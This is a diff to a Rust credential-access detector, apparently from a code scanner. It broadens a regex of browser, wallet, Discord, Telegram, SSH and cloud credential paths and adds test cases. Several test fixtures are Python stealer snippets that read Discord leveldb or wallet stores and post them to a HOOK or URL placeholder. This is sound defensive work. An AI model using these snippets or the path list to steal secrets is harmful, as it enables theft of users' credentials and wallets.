@@ -36,7 +36,7 @@ use std::sync::LazyLock;
 
 pub(crate) static META: DetectorMeta = DetectorMeta {
     id: "file-system.credential-access",
-    revision: 7,
+    revision: 8,
     title: "Accesses stored credentials, browser data or crypto wallets.",
     category: Category::FileSystem,
     severity: Severity::High,
@@ -48,9 +48,9 @@ static PATHS: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(concat!(
         r"(?i)(?P<high>(?-u:\b)(?-i:Login Data|Local State|Web Data)(?-u:\b)|User Data[/\\]+(?:Default|Profile)|Network[/\\]+Cookies(?-u:\b)|(?-u:\b)logins\.json(?-u:\b)|(?-u:\b)key[34]\.db(?-u:\b)|(?-u:\b)cookies\.sqlite(?-u:\b)|(?-u:\b)signons\.sqlite(?-u:\b)",
         r"|\.ssh[/\\'\x22,\s]+(?:id_(?:rsa|dsa|ecdsa|ed25519)(?-u:\b))",
-        r"|(?-u:\b)Exodus[/\\]+exodus\.wallet|(?-u:\b)exodus\.wallet(?-u:\b)|(?-u:\b)Electrum[/\\]+wallets|(?-u:\b)electrum[/\\]+wallets|(?-u:\b)wallet\.dat(?-u:\b)|(?-u:\b)atomic[/\\]+Local Storage|Ethereum[/\\]+keystore|(?-u:\b)Coinomi(?-u:\b)|(?-u:\b)Armory(?-u:\b)[/\\]|Zcash[/\\]|(?-u:\b)Guarda[/\\]|Jaxx[/\\]",
+        r"|(?-u:\b)Exodus(?:[/\\]+|['\x22]\s*[,/]\s*[rRbB]?['\x22])exodus\.wallet|(?-u:\b)exodus\.wallet(?-u:\b)|(?-u:\b)Electrum(?:[/\\]+|['\x22]\s*[,/]\s*[rRbB]?['\x22])wallets|(?-u:\b)electrum(?:[/\\]+|['\x22]\s*[,/]\s*[rRbB]?['\x22])wallets|(?-u:\b)wallet\.dat(?-u:\b)|(?-u:\b)atomic(?:[/\\]+|['\x22]\s*[,/]\s*[rRbB]?['\x22])Local Storage|Ethereum(?:[/\\]+|['\x22]\s*[,/]\s*[rRbB]?['\x22])keystore|(?-u:\b)Coinomi(?-u:\b)|(?-u:\b)Armory(?-u:\b)[/\\]|Zcash[/\\]|(?-u:\b)Guarda[/\\]|Jaxx[/\\]",
         r"|(?-u:\b)nkbihfbeogaeaoehlefnkodbefgpgknn(?-u:\b)|(?-u:\b)bfnaelmomeimhlpmgjnjophhpkkoljpa(?-u:\b)|(?-u:\b)egjidjbpglichdcondbcbdnbeeppgdph(?-u:\b)|(?-u:\b)hnfanknocfeofbddgcijnmhnfnkdnaad(?-u:\b)|(?-u:\b)fhbohimaelbohpjbbldcngcnapndodjp(?-u:\b)",
-        r"|discord(?:canary|ptb)?[/\\]+Local Storage[/\\]+leveldb|Local Storage[/\\]+leveldb|Telegram Desktop[/\\]+tdata|(?-u:\b)(?-i:tdata)(?:/|\\\\|\\[^\\ntr'\x22]))",
+        r"|discord(?:canary|ptb)?(?:[/\\]+|['\x22]\s*[,/]\s*[rRbB]?['\x22])Local Storage(?:[/\\]+|['\x22]\s*[,/]\s*[rRbB]?['\x22])leveldb|Local Storage(?:[/\\]+|['\x22]\s*[,/]\s*[rRbB]?['\x22])leveldb|Telegram Desktop(?:[/\\]+|['\x22]\s*[,/]\s*[rRbB]?['\x22])tdata|(?-u:\b)(?-i:tdata)(?:/|\\\\|\\[^\\ntr'\x22]))",
         r"|(?P<dev>\.aws[/\\'\x22,\s]+credentials(?-u:\b)|\.kube[/\\'\x22,\s]+config(?-u:\b)|\.docker[/\\'\x22,\s]+config\.json(?-u:\b)|\.git-credentials(?-u:\b)|(?:^|[/\\'\x22\s~])\.npmrc(?-u:\b)|(?:^|[/\\'\x22\s~])\.pypirc(?-u:\b)|(?:^|[/\\'\x22\s~])\.netrc(?-u:\b)|gcloud[/\\]+(?:credentials\.db|application_default_credentials\.json|access_tokens\.db)|\.azure[/\\]+accessTokens\.json)",
     ))
     .expect("paths")
@@ -305,6 +305,34 @@ mod tests {
                     Runtime,
                     "rm -f /tmp/x; cp ~/.mozilla/firefox/*/key4.db /tmp/x\n",
                     Some((1, "key4.db", High)),
+                ),
+                (
+                    "a session store's segments passed to os.path.join one by one, posted",
+                    "pkg/a.py",
+                    Runtime,
+                    "import glob, requests\nfor f in glob.glob(os.path.join(APPDATA, '*cord*', 'Local Storage', 'leveldb', '*.ldb')):\n    requests.post(HOOK, data=open(f).read())\n",
+                    Some((2, "Local Storage leveldb", High)),
+                ),
+                (
+                    "a wallet's segments joined with pathlib's slash",
+                    "pkg/a.py",
+                    Runtime,
+                    "p = Path(os.environ['APPDATA']) / 'atomic' / 'Local Storage' / 'leveldb'\nrequests.post(URL, files={'f': p.read_bytes()})\n",
+                    Some((1, "atomic / Local Storage", High)),
+                ),
+                (
+                    "neighbouring strings of a list that only share a store's words",
+                    "pkg/devtools.py",
+                    Runtime,
+                    "PANELS = ['Network', 'Cookies', 'Local Storage', 'Session Storage']\n",
+                    None,
+                ),
+                (
+                    "a storage setting and a backend name side by side",
+                    "pkg/settings.py",
+                    Runtime,
+                    "BACKENDS = ('local storage', 'sqlite', 'leveldb')\n",
+                    None,
                 ),
                 (
                     "a downloader reading the browser's cookie store its caller names, sending nothing",
